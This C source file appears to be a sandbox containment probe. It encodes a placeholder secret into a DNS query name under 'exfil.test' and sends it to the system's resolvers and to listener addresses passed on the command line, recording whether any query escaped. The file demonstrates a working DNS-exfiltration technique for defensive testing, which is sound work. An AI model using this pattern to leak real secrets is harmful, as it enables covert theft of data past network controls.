// N2: DNS exfiltration: a query whose name carries a secret, sent over UDP and TCP to each
// resolver endpoint in argv (the runner's own listeners on loopback and a 198.18.0.0/15
// address), and to whatever /etc/resolv.conf names. Contained: no answer, and the runner's
// listeners saw no query.
#include "probe_net.h"

// A DNS query for "<label>.exfil.test" type A.
static size_t BuildQuery(char* out, const char* label) {
  static const unsigned char header[12] = {0x5a, 0xfe, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
  memcpy(out, header, sizeof header);
  size_t n = sizeof header;
  const char* parts[] = {label, "exfil", "test"};
  for (int i = 0; i < 3; ++i) {
    size_t l = strlen(parts[i]);
    out[n++] = (char)l;
    memcpy(out + n, parts[i], l);
    n += l;
  }
  out[n++] = 0;
  out[n++] = 0;
  out[n++] = 1;  // A
  out[n++] = 0;
  out[n++] = 1;  // IN
  return n;
}

int main(int argc, char** argv) {
  Probe p;
  probe_begin(&p, "N2", "DNS exfiltration");
  char query[300];
  size_t qlen = BuildQuery(query, "secret-5afe-c0ffee");
  char errs[256] = "";
  int fd = open("/etc/resolv.conf", O_RDONLY | O_CLOEXEC);
  probe_err(&p, "resolv_conf", fd < 0 ? errno : 0);
  char targets[8][128];
  int nt = 0;
  if (fd >= 0) {
    char buf[2048];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    for (char* line = strtok(buf, "\n"); line != NULL && nt < 4; line = strtok(NULL, "\n")) {
      char addr[64];
      if (sscanf(line, "nameserver %63s", addr) == 1) {
        snprintf(targets[nt++], sizeof targets[0], "udp:%s:53", addr);
      }
    }
  }
  for (int i = 1; i < argc && nt < 8; ++i)
    snprintf(targets[nt++], sizeof targets[0], "%s", argv[i]);
  for (int i = 0; i < nt; ++i) {
    int sent = 0;
    int err = probe_reach(targets[i], query, qlen, 1500, &sent);
    probe_err(&p, targets[i], err);
    probe_errset_add(errs, sizeof errs, err);
    if (err == 0) probe_escaped(&p);
  }
  return probe_finish(&p, errs);
}
